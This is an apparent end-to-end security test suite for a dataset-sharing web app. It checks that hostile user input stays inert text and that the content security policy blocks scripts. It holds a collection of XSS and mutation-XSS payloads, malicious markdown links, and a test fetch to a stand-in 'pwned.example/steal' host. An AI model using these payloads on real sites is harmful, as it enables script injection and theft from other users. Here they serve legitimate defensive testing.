/** Whatever somebody writes is text to everybody: no script of theirs runs, nothing is fetched, nothing opens. */
import { readdir, readFile } from 'node:fs/promises';
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import type { Page } from 'playwright-core';
import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, inject, it } from 'vitest';
import {
  chat,
  create,
  downloadBundle,
  keep,
  license,
  pasteRows,
  person,
  publish,
  sign,
  tab,
  type PortableFile
} from './datanets';
import { visit, type Visit } from './support';

/** Each would set `pwned`, or ask for an address with that word in it. */
const payloads = [
  `<img src=/pwned-img onerror="pwned=1">`,
  `<svg/onload=pwned=1><animate onbegin=pwned=1 attributeName=x dur=1s>`,
  `</title></textarea></style><script>pwned=1</script>`,
  `<iframe srcdoc="<script>parent.pwned=1</script>"></iframe><iframe src=javascript:parent.pwned=1>`,
  `<meta http-equiv=refresh content="0;url=/pwned-meta"><base href=https://pwned.example/>`,
  `<style>@import '/pwned-style'; * { background: url(/pwned-bg) }</style><link rel=stylesheet href=/pwned-css>`,
  `<form action=/pwned-form><input autofocus onfocus=pwned=1><button formaction=javascript:pwned=1>go</form>`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=pwned=1&gt;">`,
  `<noscript><p title="</noscript><img src=x onerror=pwned=1>">`,
  `<svg></p><style><a id="</style><img src=1 onerror=pwned=1>">`,
  `&lt;img src=x onerror=pwned=1&gt; &#60;svg onload=pwned=1&#62;`,
  `<details open ontoggle=pwned=1><video><source onerror=pwned=1></video></details>`,
  `<object data=/pwned-object></object><embed src=/pwned-embed><audio src=/pwned-audio onerror=pwned=1>`,
  `javascript:pwned=1 "onmouseover=pwned=1 ' onfocus=pwned=1 autofocus x='`,
  '{@html pwned=1} {{constructor.constructor("pwned=1")()}} ${pwned=1}'
];

const markdown = [
  '# Heading <img src=/pwned-md onerror=pwned=1>',
  '[one](javascript:pwned=1) [two](JaVaScRiPt&colon;pwned=1) [three](data:text/html,<script>pwned=1</script>)',
  '[four](/pwned-relative) [five](vbscript:pwned) [six][ref] <javascript:pwned=1>',
  '![image](https://pwned.example/tracks.png) ![image](x"onerror="pwned=1)',
  '[![image in a link](/pwned-image)](javascript:pwned=1)',
  'https://pwned.example/"onmouseover="pwned=1',
  '| a | <script>pwned=1</script> |\n|---|---|\n| <svg onload=pwned=1> | `<img src=x onerror=pwned=1>` |',
  '```"><script>pwned=1</script>\ncode\n```',
  '[ref]: javascript:pwned=1',
  ...payloads
].join('\n\n');

/** As long as the field lets names be. */
const mallorysName = `Mallory <img src=/pwned-name onerror="pwned=1">`;
const datanetName = `Evil </title><svg/onload=pwned=1><img src=/pwned-datanet onerror=pwned=1>`;
const summary = `Sum <iframe srcdoc="<script>parent.pwned=1</script>"></iframe>`;
const source = `Source "><script>pwned=1</script><img src=/pwned-source onerror=pwned=1>`;
const tag = `tag<img/src=/pwned-tag/onerror=pwned=1>`;

interface Watched extends Visit {
  /** Dialogs, windows and requests that only a payload could cause. */
  deeds: string[];
}

/** Notes what only a payload could do, from now on. */
function watch(visited: Visit): Watched {
  const deeds: string[] = [];
  const { context, page } = visited;
  context.on('request', (request) => {
    const { host, pathname } = new URL(request.url());
    if (`${host}${pathname}`.includes('pwned')) deeds.push(`asked for ${request.url()}`);
  });
  context.on('page', (opened) => deeds.push(`opened ${opened.url()}`));
  page.on('dialog', (dialog) => {
    deeds.push(`said ${dialog.message()}`);
    void dialog.dismiss();
  });
  return { ...visited, deeds };
}

/** What a payload became, if any became more than text. */
async function marksOf(page: Page): Promise<string[]> {
  return page.evaluate(() => {
    const found: string[] = [];
    if ('pwned' in window) found.push('a script ran');
    for (const element of document.querySelectorAll('*')) {
      const name = element.localName;
      const own = element.cloneNode(false) as Element;
      if (['iframe', 'frame', 'object', 'embed', 'base', 'math', 'video', 'audio'].includes(name))
        found.push(own.outerHTML);
      if (name === 'meta' && /refresh/i.test(element.getAttribute('http-equiv') ?? ''))
        found.push(own.outerHTML);
      if (['style', 'script'].includes(name) && element.textContent.includes('pwned'))
        found.push(`${name} with a payload`);
      for (const { name: attribute, value } of element.attributes) {
        const leads = ['href', 'src', 'action', 'formaction', 'srcdoc', 'background', 'style', 'xlink:href'];
        const dangerous = leads.includes(attribute) && /(javascript|vbscript|data:text|pwned-)/i.test(value);
        if (/^on/i.test(attribute) || dangerous) found.push(own.outerHTML);
      }
    }
    return found;
  });
}

async function expectHarmless({ page, deeds, complaints, foreign }: Watched): Promise<void> {
  expect(await marksOf(page)).toEqual([]);
  expect(deeds).toEqual([]);
  // A payload that only the page's policy stopped would be complained about.
  expect(complaints).toEqual([]);
  expect(foreign).toEqual([]);
}

const rows = payloads.map((payload) => chat(`Q ${payload}`, `A ${payload}`));

/** Every row of the list, in the pane where it is read. */
async function expectRowsAsText(page: Page): Promise<void> {
  const list = page.getByRole('grid', { name: 'Rows' });
  // A key that is pressed before there are rows moves to none of them.
  await list.getByRole('row').first().waitFor();
  await list.focus();
  for (const [index, payload] of payloads.entries()) {
    await page.keyboard.press('ArrowDown');
    const pane = page.getByRole('region', { name: new RegExp(`^Row ${index + 1} of`) });
    await pane.getByText(`Q ${payload}`).waitFor();
    await pane.getByText(`A ${payload}`).waitFor();
  }
}

describe('what a hostile person writes', () => {
  let [mallory, vera]: Watched[] = [];
  let [invitation, bundle]: PortableFile[] = [];
  beforeAll(async () => {
    [mallory, vera] = [watch(await person(mallorysName)), watch(await person('Vera Victim'))];
  });
  // Each step stands on the one before: after a failure the others would only repeat it.
  let failed = false;
  beforeEach((step) => step.skip(failed, 'an earlier step failed'));
  afterEach((step) => {
    failed ||= step.task.result?.state === 'fail';
  });
  afterAll(async () => {
    for (const each of [mallory, vera]) await each?.context.close();
  });

  it('is text on every tab of their own page, and in what they import', async () => {
    const { page } = mallory;
    await create(page, datanetName);
    await page.getByRole('heading', { level: 1, name: datanetName, exact: true }).waitFor();
    expect(await page.title()).toContain(datanetName);
    await pasteRows(page, rows);

    const bring = (name: string, mimeType: string, text: string) =>
      page
        .getByRole('button', { name: 'Choose files', exact: true })
        .setInputFiles({ name, mimeType, buffer: Buffer.from(text) });
    const fileName = `"><img src=x onerror=pwned=1>.jsonl`;
    const whole = { text: 'T', source, tags: [tag, '__proto__'], contributor: mallorysName };
    await bring(fileName, 'application/jsonl', `${JSON.stringify(whole)}\n{"broken": "${payloads[1]}`);
    await page.getByRole('heading', { name: fileName }).waitFor();
    await page.getByText('The first rows', { exact: true }).waitFor();
    await page.getByRole('button', { name: 'Import', exact: true }).click();
    await page.getByText('1 row added, 1 left out.').waitFor();
    await page.getByText('What was left out, and why').click();
    await expectHarmless(mallory);
    await bring(
      'columns.csv',
      'text/csv',
      `"<img src=/pwned-column onerror=pwned=1>","</option></select><svg onload=pwned=1>"\na question,an answer\n`
    );
    await page.getByRole('heading', { name: 'columns.csv' }).waitFor();
    await expectHarmless(mallory);
    await page.getByRole('button', { name: 'Leave it out' }).click();
    await bring(
      'page.html',
      'text/html',
      `<title>&lt;img src=/pwned-title onerror=pwned=1&gt;</title><script>pwned=1</script><p onclick=pwned=1>Words &lt;svg onload=pwned=1&gt;</p><img src=/pwned-html>`
    );
    await page.getByRole('heading', { name: 'page.html' }).waitFor();
    await page.getByText('Words <svg onload=pwned=1>').waitFor();
    await expectHarmless(mallory);
    await page.getByRole('button', { name: 'Leave it out' }).click();

    await page.getByRole('button', { name: 'Back to the rows' }).click();
    await expectRowsAsText(page);
    await page.getByRole('button', { name: 'Filters' }).click();
    await page.getByLabel('Tag', { exact: true }).selectOption(tag);
    await page.getByText('1 row found').waitFor();
    await page.keyboard.press('Escape');
    await expectHarmless(mallory);

    await tab(page, 'About');
    await page.getByLabel('Summary', { exact: true }).fill(summary);
    await page.getByLabel('Where the licence is stated').fill(payloads[0]);
    await page.getByLabel('Tags', { exact: true }).fill(tag);
    await page.getByLabel('Purpose', { exact: true }).fill(payloads[3]);
    await page.getByLabel('Contact', { exact: true }).fill(payloads[4]);
    await page.getByLabel('Description', { exact: true }).fill(markdown);
    const looks = page.getByRole('region', { name: 'How the description looks' });
    await looks.getByText('Heading <img src=/pwned-md onerror=pwned=1>').waitFor();
    // Words of a link that leads nowhere good stay, the link does not.
    await looks.getByText('one two').waitFor();
    expect(
      await looks.getByRole('link').evaluateAll((links) => links.map((each) => each.textContent))
    ).toEqual(
      await looks
        .locator('a[href^="https://pwned.example/"]')
        .evaluateAll((links) => links.map((each) => each.textContent))
    );
    for (const payload of [payloads[2], payloads[7]]) await looks.getByText(payload).waitFor();
    await expectHarmless(mallory);
    await license(page);
    await tab(page, 'Checks');
    await page.getByRole('button', { name: 'Check the rows' }).click();
    await page.getByRole('button', { name: 'Check again' }).waitFor();
    await expectHarmless(mallory);
    await publish(page, payloads[5]);
    await page.getByText(payloads[5]).waitFor();
    bundle = await downloadBundle(page, 1);
    expect(bundle.name).toMatch(/^[^<>"/\\]+\.datanet$/);
    await tab(page, /^Proposals/);
    await page.getByRole('button', { name: 'Make an invitation' }).click();
    const signed = await sign(page);
    expect(signed.words).toContain(datanetName);
    invitation = signed.file;
    await expectHarmless(mallory);
    await page.getByRole('link', { name: 'All Datanets' }).click();
    await page.getByRole('link', { name: datanetName }).waitFor();
    await page.getByText(summary).waitFor();
    await expectHarmless(mallory);
  });

  it('is text to whoever opens their version', async () => {
    const { page } = vera;
    const said = await keep(page, bundle);
    expect(said).toContain(mallorysName);
    await page.getByRole('heading', { level: 1, name: datanetName, exact: true }).waitFor();
    await tab(page, 'Rows');
    await expectRowsAsText(page);
    await expectHarmless(vera);
    await tab(page, 'About');
    await page.getByText('Heading <img src=/pwned-md onerror=pwned=1>').waitFor();
    await page.getByText(payloads[3]).first().waitFor();
    await expectHarmless(vera);
    for (const name of ['Checks', 'Access', 'Versions']) {
      await tab(page, name);
      await page
        .getByRole('tabpanel')
        .getByRole('heading')
        .or(page.getByText('Not checked yet'))
        .first()
        .waitFor();
      await expectHarmless(vera);
    }
    await page.goto(`${inject('siteUrl')}datanets`);
    await page.getByRole('link', { name: datanetName }).waitFor();
    await expectHarmless(vera);
  });

  it('is text to whoever opens their invitation', async () => {
    const { page } = vera;
    await keep(page, invitation);
    for (const name of ['Rows', 'About', 'Hand in']) {
      await tab(page, name);
      await page.getByRole('tabpanel').getByRole('heading').first().waitFor();
      await expectHarmless(vera);
    }
  });

  it('is text to the owner whom they hand rows to', async () => {
    await vera.page.goto(`${inject('siteUrl')}datanets`);
    await create(vera.page, 'Quiet harbour');
    await license(vera.page);
    await tab(vera.page, /^Proposals/);
    await vera.page.getByRole('button', { name: 'Make an invitation' }).click();
    const asked = (await sign(vera.page)).file;

    await keep(mallory.page, asked);
    await tab(mallory.page, 'Rows');
    await pasteRows(mallory.page, rows);
    await tab(mallory.page, 'Hand in');
    await mallory.page.getByLabel('Where the rows come from').fill(source);
    await mallory.page.getByLabel('Licence', { exact: true }).fill('CC-BY-4.0');
    await mallory.page.getByLabel('Where the licence can be seen').fill(payloads[0]);
    await mallory.page.getByRole('button', { name: /^Sign and hand in/ }).click();
    const { file } = await sign(mallory.page);

    const { page } = vera;
    expect(await keep(page, file)).toContain(source);
    await tab(page, /^Proposals/);
    await page.getByText(source).first().waitFor();
    await page.getByRole('button', { name: 'Look at the rows' }).click();
    await page.getByText(`Q ${payloads[0]}`).first().waitFor();
    await page.getByText(`A ${payloads[2]}`).first().waitFor();
    await expectHarmless(vera);
    await page.getByRole('button', { name: 'Approve all' }).click();
    await page.getByRole('button', { name: 'Sign the decision' }).click();
    await sign(page);
    await publish(page, 'With the rows of Mallory.');
    await page.getByRole('heading', { name: /^Version 1/ }).waitFor();
    await tab(page, 'Rows');
    await expectRowsAsText(page);
    await expectHarmless(vera);
  });

  it('is text where models are trained on it', async () => {
    const { page } = vera;
    await page.goto(`${inject('siteUrl')}tune`);
    await page.getByRole('button', { name: 'Only choose it' }).click();
    await page.locator('#model').getByText('tabtune-starter').waitFor();
    await page.getByRole('checkbox', { name: datanetName }).check();
    await page.getByRole('checkbox', { name: 'Quiet harbour' }).check();
    await page.locator('#data mark').nth(3).waitFor();
    await page.locator('#data').getByText(mallorysName).first().waitFor({ state: 'attached' });
    await expectHarmless(vera);
  });

  it('is text in addresses', async () => {
    const { page } = vera;
    const evil = encodeURIComponent(payloads[0]);
    for (const path of [
      `datanets/view?id=${evil}`,
      `datanets/view?id=${evil}#rows/${evil}`,
      `datanets#open=${evil}`,
      `datanets#open=PGltZyBzcmM9eCBvbmVycm9yPXB3bmVkPTE-`
    ]) {
      // The fragment alone would not load the page again.
      await page.goto('about:blank');
      await page.goto(inject('siteUrl') + path);
      await page
        .getByRole('alert')
        .or(page.getByText('The link that led here is damaged.'))
        .first()
        .waitFor();
      await expectHarmless(vera);
    }
  });
});

describe('the content security policy', () => {
  it('stands in every built page, and allows no inline script and no eval', async () => {
    const built = (await readdir('build', { recursive: true })).filter((name) => name.endsWith('.html'));
    expect(built.length).toBeGreaterThanOrEqual(4);
    for (const name of built) {
      const html = await readFile(`build/${name}`, 'utf8');
      const policy = /http-equiv="content-security-policy" content="([^"]+)"/i.exec(html)?.[1] ?? '';
      const directives = new Map(
        policy.split(';').map((part) => {
          const [directive, ...sources] = part.trim().split(/\s+/);
          return [directive, sources];
        })
      );
      expect(directives.get('default-src'), name).toEqual([`'self'`]);
      expect(directives.get('object-src'), name).toEqual([`'none'`]);
      const scripts = directives.get('script-src') ?? [];
      expect(scripts, name).toContain(`'self'`);
      expect(
        scripts.filter((each) => !/^'(self|sha256-[\w+/]+=*)'$/.test(each)),
        name
      ).toEqual([]);
      // The policy must come before whatever it is to hold for.
      expect(html.search(/content-security-policy/i), name).toBeLessThan(
        html.search(/<script\b|rel="stylesheet"/i)
      );
    }
  });

  it('stops scripts that somebody would get into a page all the same', async () => {
    const { context, page } = await visit('datanets');
    try {
      await page.getByRole('heading', { level: 1 }).waitFor();
      const outcome = await page.evaluate(async () => {
        const tries: Record<string, () => unknown> = {
          script() {
            const script = document.createElement('script');
            script.textContent = 'window.pwned = "script"';
            document.head.append(script);
          },
          handler() {
            document.body.insertAdjacentHTML('beforeend', '<img src="data:," onerror="window.pwned = 1">');
          },
          link() {
            const link = document.createElement('a');
            link.href = 'javascript:window.pwned = 1';
            document.body.append(link);
            link.click();
          },
          frame() {
            document.body.insertAdjacentHTML(
              'beforeend',
              '<iframe srcdoc="<script>parent.pwned = 1</scr' + 'ipt>"></iframe>'
            );
          },
          base() {
            const base = document.createElement('base');
            base.href = 'https://pwned.example/';
            document.head.append(base);
            return document.baseURI;
          },
          eval: () => (0, eval)('window.pwned = 1'),
          function: () => new Function('window.pwned = 1')(),
          // One may be made, and obeys the same policy.
          worker: () =>
            new Promise((resolve, reject) => {
              const script = `fetch('https://pwned.example/steal').catch(() => (0, eval)('1')).then(
                () => postMessage('done'), () => postMessage('refused'))`;
              const worker = new Worker(URL.createObjectURL(new Blob([script])));
              worker.onmessage = ({ data }) => resolve(data);
              worker.onerror = reject;
            }),
          import() {
            const address = 'data:text/javascript,window.pwned = 1';
            return import(/* @vite-ignore */ address);
          },
          fetch: () => fetch('https://pwned.example/steal')
        };
        const results: Record<string, string> = {};
        for (const [name, attempt] of Object.entries(tries)) {
          // In a task of its own: what the debugger runs may evaluate, what a page runs may not.
          results[name] = await new Promise<string>((resolve) => {
            setTimeout(() => {
              Promise.resolve()
                .then(attempt)
                .then(
                  (value) => resolve(typeof value === 'string' ? value : 'done'),
                  () => resolve('refused')
                );
            });
          });
        }
        // Time for what was only begun.
        await new Promise((resolve) => setTimeout(resolve, 500));
        return { results, pwned: 'pwned' in window };
      });
      expect(outcome.pwned).toBe(false);
      for (const name of ['eval', 'function', 'worker', 'import', 'fetch']) {
        expect(outcome.results[name], name).toBe('refused');
      }
      expect(outcome.results['base']).not.toContain('pwned');
      // What the journeys above look for would be seen: here it stands in the page, and only its script is stopped.
      expect((await marksOf(page)).join()).toMatch(/onerror.*srcdoc/s);
    } finally {
      await context.close();
    }
  });

  it('holds in the workers, which get no header from the server', async () => {
    // It would answer whoever asks.
    const reached: string[] = [];
    const elsewhere = createServer((request, response) => {
      reached.push(request.url ?? '');
      const headers = { 'access-control-allow-origin': '*', 'content-type': 'text/javascript' };
      response.writeHead(200, headers).end('self.pwned = 1');
    });
    await new Promise<void>((resolve) => elsewhere.listen(0, '127.0.0.1', resolve));
    const address = `127.0.0.1:${(elsewhere.address() as AddressInfo).port}/`;
    const { context, page } = await visit('tune');
    try {
      await page.getByText('Choose a model first').first().waitFor();
      await expect.poll(() => page.workers().length).toBe(2);
      for (const worker of page.workers()) {
        const outcome = await worker.evaluate(async (address) => {
          const heard = (target: WebSocket | EventSource) =>
            new Promise((resolve, reject) => {
              target.onopen = resolve;
              target.onerror = reject;
            });
          const attempts: Record<string, () => unknown> = {
            fetch: () => fetch(`http://${address}fetch`),
            import: () => import(/* @vite-ignore */ `http://${address}import.js`),
            socket: () => heard(new WebSocket(`ws://${address}socket`)),
            events: () => heard(new EventSource(`http://${address}events`)),
            eval: () => (0, eval)('1'),
            own: () => fetch(new URL('/favicon.svg', location.origin))
          };
          const results: Record<string, string> = {};
          for (const [name, attempt] of Object.entries(attempts)) {
            // In a task of its own: what the debugger runs may evaluate, what a worker runs may not.
            results[name] = await new Promise<string>((resolve) => {
              setTimeout(() => {
                Promise.resolve()
                  .then(attempt)
                  .then(
                    () => resolve('done'),
                    () => resolve('refused')
                  );
              });
            });
          }
          return results;
        }, address);
        const refused = { fetch: 'refused', import: 'refused', socket: 'refused', events: 'refused' };
        expect(outcome).toEqual({ ...refused, eval: 'refused', own: 'done' });
      }
      expect(reached).toEqual([]);
    } finally {
      await context.close();
      elsewhere.close();
    }
  });

  it('keeps other sites from showing the page in a frame', async () => {
    const response = await fetch(inject('siteUrl'));
    expect(response.headers.get('content-security-policy')).toBe("frame-ancestors 'none'");
  });
});
